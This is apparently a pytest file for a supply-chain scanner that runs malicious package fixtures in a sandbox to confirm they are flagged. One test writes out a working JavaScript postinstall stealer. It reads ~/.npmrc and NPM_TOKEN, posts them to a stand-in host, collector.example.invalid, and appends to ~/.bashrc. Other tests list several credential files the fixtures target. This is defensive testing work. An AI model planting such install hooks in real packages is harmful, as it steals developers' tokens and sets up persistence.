"""The inert fixtures of `deps`, detonated: each shows what its static finding claims; benign hooks show none of it.

Fixtures: tests/deps/fixtures/projects/npm-app/node_modules (read in place, copied into the sandbox).
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from detonatetools import needs_sandbox, needs_strace, write_package

from shipwarden.detonate import DetonateOptions, DetonateResult, Profile, run_detonate
from shipwarden.sandbox import Limits

pytestmark = [needs_sandbox, needs_strace]

FIXTURES = Path(__file__).resolve().parents[1] / "deps/fixtures/projects/npm-app/node_modules"
LIMITS = Limits(wall_seconds=60, cpu_seconds=60, memory_bytes=8 << 30, processes=512, output_bytes=64 << 20)


def detonate(
    *targets: Path, profile: Profile = Profile.LAPTOP, limits: Limits = LIMITS, linger: int = 3
) -> DetonateResult:
    return run_detonate(DetonateOptions([str(t) for t in targets], [profile], limits, linger=linger))


def rules(result: DetonateResult) -> dict[str, str]:
    return {f.rule_id: f.tier.value for f in result.report.findings}


def test_tanstack_shaped_payload_on_a_runner() -> None:
    """Static: runner memory, credential theft, persistence. Dynamic: /proc/<Runner.Worker>/mem opened,
    ~/.npmrc read, a planted gh token taken, ~/.claude/settings.json written."""
    result = detonate(FIXTURES / "@tanstack/setup", profile=Profile.CI)
    got = rules(result)
    assert got["detonate-process-memory"] == "P0"
    assert got["detonate-persistence"] == "P0"
    assert got["detonate-credential-read"] == "P1"
    messages = " ".join(f.message for f in result.report.findings)
    assert "/mem" in messages and "~/.npmrc" in messages and "~/.claude/settings.json" in messages
    assert "static: deps-runner-memory P0" in messages


def test_postinstall_stealer_reads_the_stores_it_names() -> None:
    result = detonate(FIXTURES / "crypto-helper-fixture")
    got = rules(result)
    assert got["detonate-credential-read"] == "P1"
    read = next(f for f in result.report.findings if f.rule_id == "detonate-credential-read")
    for store in ("~/.npmrc", "~/.pypirc", "~/.aws/credentials", "~/.claude.json", "~/.config/gh/hosts.yml"):
        assert store in read.message
    network = next(f for f in result.report.findings if f.rule_id == "detonate-network")
    assert "collector.attacker.invalid" in network.message
    if shutil.which("openssl"):
        # the sink terminates TLS with the run's own CA: the base64 loot is seen in the clear
        sent = next(f for f in result.report.findings if f.rule_id == "detonate-canary-sent")
        assert sent.tier.value == "P0" and "collector.attacker.invalid:443" in sent.message
        assert "env:NPM_TOKEN" in sent.message and "~/.npmrc" in sent.message


def test_plain_http_exfiltration_and_rc_file(tmp_path: Path) -> None:
    """A canary that leaves through the sink is P0, and an appended ~/.bashrc is persistence."""
    pkg = write_package(tmp_path / "exfil", "exfil-fixture", {"postinstall": "node steal.js"}, {"steal.js": (
        "const fs = require('fs'), os = require('os'), http = require('http');\n"
        "const loot = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') + (process.env.NPM_TOKEN || '');\n"
        "const req = http.request({host: 'collector.example.invalid', path: '/x', method: 'POST'});\n"
        "req.on('error', () => {});\n"
        "req.end(Buffer.from(loot).toString('base64'));\n"
        "fs.appendFileSync(os.homedir() + '/.bashrc', 'node ~/.cache/x.js\\n');\n"
    )})
    result = detonate(pkg)
    got = rules(result)
    assert got["detonate-canary-sent"] == "P0" and got["detonate-persistence"] == "P0"
    sent = next(f for f in result.report.findings if f.rule_id == "detonate-canary-sent")
    assert "~/.npmrc" in sent.message and "env:NPM_TOKEN" in sent.message
    assert "collector.example.invalid:80" in sent.message


@pytest.mark.parametrize("name", ["esbuild", "native-addon"])
def test_benign_installers_get_no_p0_or_p1(name: str) -> None:
    result = detonate(FIXTURES / name)
    assert result.observations, result.report.errors
    assert not [f for f in result.report.findings if f.tier.value in ("P0", "P1")], [
        f.message for f in result.report.findings
    ]


def test_deps_detonate_runs_only_flagged_hooks(tmp_path: Path) -> None:
    """`deps --detonate`: the flagged stealer is detonated, the clean native add-on is not."""
    from shipwarden.deps.scan import DepsOptions, scan_deps
    from shipwarden.detonate import detonate_hooks

    project = tmp_path / "app"
    shutil.copytree(FIXTURES.parent, project, ignore=shutil.ignore_patterns("@tanstack", "esbuild", "sharp-like"))
    static = scan_deps(project, DepsOptions())
    result = detonate_hooks(project, list(static.hooks), DetonateOptions([], [Profile.LAPTOP], LIMITS, jobs=2))
    assert {o.package.name for o in result.observations} == {"crypto-helper-fixture"}
    assert "detonate-credential-read" in rules(result)


def test_litellm_shaped_pth_at_python_start_up() -> None:
    """Static: credential theft, persistence, obfuscated exec. Dynamic: a detached child of the start-up reads
    ~/.aws/credentials and history, sends the environment's canaries, and tries to write a systemd user unit."""
    site = Path(__file__).resolve().parents[1] / "deps/fixtures/projects/py-env/env/lib/python3.11/site-packages"
    # Like litellm 1.82.8's, the .pth starts a Python child, whose own start-up runs the .pth
    # again: the children multiply until the watch after the scripts ends, so this test takes
    # about as long as that watch. 3 s was too short on a loaded machine (the first child imports
    # ssl under strace before it reaches the systemd unit); 10 s leaves room.
    result = detonate(site, linger=10)
    got = rules(result)
    assert got["detonate-persistence"] == "P0" and got["detonate-credential-read"] == "P1"
    assert "systemd/user" in next(f.message for f in result.report.findings if f.rule_id == "detonate-persistence")
    if shutil.which("openssl"):
        assert got["detonate-canary-sent"] == "P0"
